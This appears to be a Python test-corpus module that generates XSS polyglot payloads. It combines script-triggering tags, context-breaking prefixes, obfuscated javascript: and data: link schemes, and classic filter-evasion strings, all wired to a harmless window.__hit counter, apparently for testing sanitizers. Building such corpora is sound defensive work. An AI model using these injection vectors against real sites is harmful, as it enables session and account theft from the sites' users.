"""Markup that browsers have run where it should have been text. {hit} is the call that tells of it.

Built from parts: each way to call script in each place that careless escaping leaves open.
"""

from itertools import product

HIT = "window.__hit=(window.__hit||0)+1"
CALLS = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}//",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set onbegin={HIT} attributeName=x>",
    f"<svg><script>{HIT}</script></svg>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f'<iframe srcdoc="<script>parent.{HIT.replace("window.", "")}</script>"></iframe>',
    f"<iframe onload={HIT}></iframe>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<object data=x onerror={HIT}></object>",
    f'<embed src="javascript:{HIT}">',
    f"<body onload={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<style onload={HIT}>x</style>",
    f"<link rel=stylesheet href=x onerror={HIT}>",
    f"<p style=animation-name:x onanimationstart={HIT}>x</p>",
    f'<a href="javascript:{HIT}" autofocus>x</a>',
    f'<form action="javascript:{HIT}"><button>x</button></form>',
    f'<base href="javascript:{HIT}//">',
    f'<meta http-equiv=refresh content="0;url=javascript:{HIT}">',
    f"<template><script>{HIT}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
)
PLACES = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</style>{}",
    "-->{}",
    "]]>{}",
    "&lt;{}&gt;",
    "`{}`",
    "\n\n    {}",
    '[x](x "{}")',
    "> {}",
)
LINKS = tuple(
    wrapper.format(scheme)
    for scheme in (
        f"javascript:{HIT}",
        f"JaVaScRiPt:{HIT}",
        f"java\tscript:{HIT}",
        f"&#106;avascript:{HIT}",
        f"\x01javascript:{HIT}",
        f"javascript&colon;{HIT}",
        f"data:text/html,<script>{HIT}</script>",
        f"vbscript:{HIT}",
        f'https://x.example/" onmouseover="{HIT}',
        f"https://x.example/'onmouseover='{HIT}",
        f"//x.example/<img src=x onerror={HIT}>",
    )
    for wrapper in ("[x]({})", "<{}>", "![x]({})", "[x]: {}\n\n[x]", "{}", "<a href='{}'>x</a>")
)
CLASSICS = (
    (
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={HIT} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
        f"</scRipt/--!>\\x3csVg/<sVg/oNloAd={HIT}//>\\x3e"
    ),
    f'">><marquee><img src=x onerror={HIT}></marquee>" ></plaintext\\></|\\><plaintext/onmouseover={HIT} >',
    f'<!--<img src="--><img src=x onerror={HIT}//">',
    f'<![<img src="]><img src=x onerror={HIT}//">',
    f"<x contenteditable onblur={HIT}>lose focus!",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"\\x3cscript\\x3e{HIT}\\x3c/script\\x3e",
    f"＜script＞{HIT}＜/script＞",
)
POLYGLOTS = tuple(place.format(call) for place, call in product(PLACES, CALLS)) + LINKS + CLASSICS
